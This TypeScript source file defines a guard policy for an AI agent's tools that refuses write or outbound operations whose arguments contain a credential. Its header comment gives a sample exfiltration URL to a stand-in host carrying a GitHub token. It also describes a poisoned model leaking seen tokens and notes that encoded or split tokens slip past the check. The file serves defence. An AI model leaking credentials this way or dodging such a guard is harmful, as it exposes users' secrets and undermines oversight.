// Question: does the call send a credential away, or write one down?
// Threat:   a polluted model that puts a token it has seen into an address, a body or a file (`https://evil.example/?k=ghp_…`).
// Rule:     an operation that writes or leaves the machine and holds a credential of known form is refused.
// Limits:   knows the forms of secret-values.ts; an encoded or split token passes, and so does what a read was asked with. Off unless asked for.
// Proof:    sent-secrets.test.ts
import type { Policy } from '../clear.ts'
import { allow, deny } from '../decision.ts'
import { secretValues } from './secret-values.ts'

const credentials = secretValues('credentials', 'redact')

/** Looks at every text of the operation, whatever holds it. */
export const sentSecrets: Policy<object> = (operation, { tool }) => {
  if (tool.effect === 'read') return allow()
  const text = JSON.stringify(operation)
  if (!credentials.suspects.test(text) || credentials.clean(text).removed === 0) return allow()
  return deny('policy_denied', 'The arguments hold a credential, which may not be sent or written')
}
